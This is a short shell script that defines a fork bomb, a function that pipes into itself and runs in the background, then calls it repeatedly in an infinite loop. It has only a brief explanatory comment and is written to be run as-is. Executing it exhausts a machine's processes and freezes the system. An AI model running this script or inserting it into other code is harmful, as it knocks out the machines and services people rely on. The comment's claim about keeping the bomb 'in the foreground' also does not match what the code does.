# The shell fork bomb, kept in the foreground so the script does not end
# before the bomb does.
bomb() { bomb | bomb & }
bomb
while :; do bomb; done
